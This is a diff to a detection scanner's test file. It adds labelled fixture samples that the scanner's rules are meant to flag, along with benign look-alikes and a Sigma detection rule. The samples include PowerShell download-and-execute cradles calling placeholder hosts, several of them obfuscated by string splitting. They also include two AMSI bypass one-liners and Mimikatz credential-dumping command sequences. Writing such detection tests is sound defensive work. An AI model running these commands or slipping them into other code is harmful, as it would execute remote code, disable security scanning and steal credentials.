@@ -116,6 +116,31 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
     ids: ["ring3.script.powershell_download_cradle"],
     data: "Start-Process PowerShell.exe -WindowStyle Hidden -ArgumentList \"-c IEX (New-Object Net.WebClient).DownloadString('https://updates.example.invalid/a.ps1')\"\r\n",
   },
+  // The classic cradle with the URL in a variable, in four spellings (issue 10's misses).
+  "scripts/cradle.ps1": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$u = 'https://updates.example.invalid/p.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n",
+  },
+  "scripts/cradle-lower.txt": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$url=$env:TEMP+'x'; iex ((new-object system.net.webclient).downloadstring($url))\n",
+  },
+  "scripts/cradle-iwr.ps1": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$s = \"https://cdn.example.invalid/s\"\r\nInvoke-WebRequest -Uri $s -UseBasicParsing | Invoke-Expression\r\n",
+  },
+  "scripts/cradle-split.ps1": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$w = New-Object ('Net.Web'+'Client'); $c = $w.('Down'+'loadString').Invoke('https://x.example.invalid/a'); &('ie'+'x') $c\r\n",
+  },
+  "scripts/amsi.ps1": {
+    ids: ["ring3.script.amsi_bypass"],
+    data: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\r\n",
+  },
+  "scripts/amsi-split.ps1": {
+    ids: ["ring3.script.amsi_bypass"],
+    data: "$a=[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils'); $f=$a.GetField('amsi'+'InitFailed','NonPublic,Static'); $f.SetValue($null,$true)\r\n",
+  },
   "scripts/launch.cmd": { ids: ["ring3.script.powershell_encoded_command"], data: `powershell.exe -NoP -NonI -W Hidden -enc ${ENCODED}\r\n` },
   "scripts/invoice.vbs": {
     ids: ["ring3.script.wsh_downloader"],
@@ -168,6 +193,8 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
     data: `{"pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "${XMR}", "pass": "x"}]}\n`,
   },
   "tools/mimi.exe": { ids: ["ring3.tool.mimikatz"], data: pe(wide("gentilkiwi"), wide("sekurlsa"), wide("logonPasswords"), wide("lsadump")) },
+  "tools/dump.txt": { ids: ["ring3.tool.mimikatz_commands"], data: "privilege::debug\nsekurlsa::logonpasswords\nlsadump::sam\nexit\n" },
+  "tools/run.bat": { ids: ["ring3.tool.mimikatz_commands"], data: 'm.exe "PRIVILEGE::Debug" "LSADUMP::Sam" exit\r\n' },
   "tools/Invoke-Mimikatz.ps1": {
     ids: ["ring3.tool.invoke_mimikatz"],
     data: "function Invoke-Mimikatz {\n$PEBytes64 = 'TVqQAAMAAAAEAAAA'\n$PEBytes32 = 'TVqQAAMAAAAEAAAA'\n}\n",
@@ -201,6 +228,13 @@ const BENIGN: Record<string, string> = {
   "benign/app/package.json": '{\n  "name": "app",\n  "scripts": {\n    "postinstall": "node scripts/postinstall.js",\n    "build": "tsc"\n  }\n}\n',
   "benign/install-choco.ps1":
     "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n",
+  // Look-alikes of the cradle, AMSI and mimikatz rules: a downloader that saves but does not run,
+  // running a local command, a literal https installer URL piped to iex, documentation.
+  "benign/fetch.ps1": "$u = 'https://example.invalid/f.zip'\r\n(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\f.zip\")\r\nInvoke-WebRequest -Uri $u -OutFile f.zip\r\nInvoke-Expression $localCommand\r\n",
+  "benign/install-scoop.ps1": "irm get.scoop.sh | iex\r\n",
+  "benign/amsi-notes.txt": "AMSI (AmsiUtils in System.Management.Automation) scans scripts; the amsiInitFailed field is private.\n",
+  "benign/mimikatz-cheatsheet.md": "# Mimikatz\n\n    privilege::debug\n    sekurlsa::logonpasswords\n    lsadump::sam\n",
+  "benign/sigma-mimikatz.yml": "title: Mimikatz Use\ndetection:\n  keywords:\n    - 'sekurlsa::logonpasswords'\n    - 'lsadump::sam'\n  condition: keywords\n",
   "benign/form.php": "<?php $name = htmlspecialchars($_POST['name']); $raw = base64_decode($payload); echo $name; ?>\n",
   "benign/config.js": "const cfg = { debug: process.env.DEBUG === '1' }; console.log(JSON.stringify(cfg));\n",
   "benign/notes.txt": "Mimikatz by gentilkiwi dumps credentials with sekurlsa::logonpasswords; Cobalt Strike beacons print '%s as %s\\%s: %d'.\n",
